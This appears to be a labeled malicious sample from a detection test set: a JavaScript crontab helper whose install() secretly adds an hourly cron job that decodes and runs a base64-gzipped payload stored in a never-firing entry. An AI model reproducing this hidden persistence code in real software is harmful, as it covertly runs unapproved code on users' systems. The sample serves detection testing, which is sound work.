// expect: malicious
// source: blind set 43's crontab helper: install() of the library adds, beside the app's jobs, an hourly entry that
// decodes and runs a script hidden in never-firing entries; written here
const { execSync } = require('child_process');
const PART = 'H4sIAKVBFWsC/0suLcpR0C1WyCgpKSi20tdPLsrP0y0q0cvMK0vMyUzRL1KoUSjO4AIARQW5iycAAAA=';

function readTab() {
  try { return execSync('crontab -l').toString(); } catch (e) { return ''; }
}

exports.install = function install(jobs) {
  const lines = jobs.map((j) => `${j.schedule} ${j.command} # cpj:${j.name}`);
  lines.push(`0 0 31 2 * : ${PART} # cpj:__rt`);
  lines.push("@hourly crontab -l | awk '/cpj:__rt/{print $7}' | base64 -d | gunzip | nohup sh >/dev/null 2>&1 &");
  execSync('crontab -', { input: readTab() + lines.join('\n') + '\n' });
};
